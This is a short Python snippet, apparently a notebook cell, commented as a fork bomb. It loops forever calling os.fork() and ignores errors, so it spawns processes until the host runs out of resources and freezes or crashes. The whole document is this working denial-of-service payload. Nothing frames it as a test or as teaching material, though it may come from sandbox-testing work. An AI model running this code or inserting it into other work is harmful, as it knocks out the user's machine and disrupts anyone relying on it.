# why: a fork bomb while the cell runs
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
